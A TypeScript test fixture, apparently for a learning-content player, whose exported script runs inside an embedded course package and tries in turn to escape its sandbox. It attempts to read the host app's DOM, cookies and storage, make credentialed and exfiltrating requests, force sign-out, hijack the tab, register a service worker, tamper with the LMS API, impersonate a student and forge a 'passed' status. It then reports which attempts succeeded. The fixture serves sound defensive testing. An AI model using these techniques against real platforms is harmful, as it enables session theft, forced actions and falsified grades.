/** For tests: a package's script that tries to read, reach and move what is not its own, and writes down what worked. */
export const hostileScript = `(${attack})()`

async function attack() {
  const app = document.referrer || 'http://localhost'
  const origin = location.ancestorOrigins ? location.ancestorOrigins[location.ancestorOrigins.length - 1]! : app
  const succeeded: string[] = []
  let tried = 0
  const player = parent as Window & { API?: Record<string, (...given: unknown[]) => string>; fetch: typeof fetch }
  const tryTo = async (what: string, act: () => unknown) => {
    tried += 1
    try {
      if (await act()) succeeded.push(what)
    } catch {
      // It was stopped.
    }
  }
  const loads = (element: HTMLElement & { src?: string }, url: string) =>
    new Promise((resolve) => {
      element.onload = () => resolve(element.tagName !== 'IFRAME' || reachable(element as HTMLIFrameElement))
      element.onerror = () => resolve(false)
      setTimeout(() => resolve(false), 1500)
      element.src = url
      document.body.append(element)
    })
  const reachable = (frame: HTMLIFrameElement) => frame.contentDocument?.title

  await tryTo('read the app', () => top!.document.body)
  await tryTo('read its storage', () => top!.localStorage.getItem('secret'))
  await tryTo('read own storage of the app', () => localStorage.getItem('secret'))
  await tryTo('read cookies', () => document.cookie)
  await tryTo('read cookies of the player', () => player.document.cookie)
  await tryTo('read the address of the app', () => top!.location.href)
  await tryTo('fetch a page', () => fetch(`${origin}/learning?stolen`, { credentials: 'include' }))
  await tryTo('fetch blindly', () => fetch(`${origin}/learning?stolen`, { credentials: 'include', mode: 'no-cors' }))
  await tryTo('sign out', () =>
    fetch(`${origin}/sign-out?stolen`, { method: 'POST', credentials: 'include', mode: 'no-cors' }),
  )
  await tryTo('fetch as the player', () => player.fetch(`${origin}/learning?stolen`, { mode: 'no-cors' }))
  await tryTo('fetch from elsewhere', () => fetch('https://example.invalid/?stolen', { mode: 'no-cors' }))
  await tryTo('send a beacon', () => navigator.sendBeacon(`${origin}/language?stolen`, 'x') && false)
  await tryTo('load a picture', () => loads(document.createElement('img'), `${origin}/icon.svg?stolen`))
  await tryTo('load a script', () => loads(document.createElement('script'), `${origin}/icon.svg?stolen`))
  await tryTo('frame the app', () => loads(document.createElement('iframe'), `${origin}/learning?stolen`))
  await tryTo('move the tab', () => {
    top!.location.href = `${origin}/account?stolen`
    return new Promise((resolve) => setTimeout(() => resolve(false), 300))
  })
  await tryTo('open a window', () => open(`${origin}/account?stolen`))
  await tryTo('start a service worker', () => navigator.serviceWorker.register('evil.js'))
  await tryTo('replace the API', () => {
    Object.defineProperty(player, 'API', { value: {} })
    return true
  })
  await tryTo('change the API', () => {
    const before = player.API!.LMSSetValue
    Reflect.set(player.API!, 'LMSSetValue', () => 'true')
    return player.API!.LMSSetValue !== before
  })
  await tryTo('be somebody else', () => {
    player.API!.LMSInitialize!('')
    return player.API!.LMSSetValue!('cmi.core.student_id', 'anouk') === 'true'
  })
  await tryTo('redirect commits', () => player.API!.LMSSetValue!('settings.lmsCommitUrl', origin) === 'true')
  await tryTo('claim to be saved', () => {
    top!.postMessage({ from: 'leerbank-player', kind: 'saved', at: 1, status: 'passed' }, '*')
    return false
  })
  await tryTo('submit a form', () => {
    const form = document.createElement('form')
    form.method = 'post'
    form.action = `${origin}/sign-out?stolen`
    document.body.append(form)
    form.submit()
    return new Promise((resolve) => setTimeout(() => resolve(false), 300))
  })
  const results = document.createElement('p')
  results.id = 'results'
  results.textContent = JSON.stringify({ tried, succeeded })
  document.body.append(results)
}
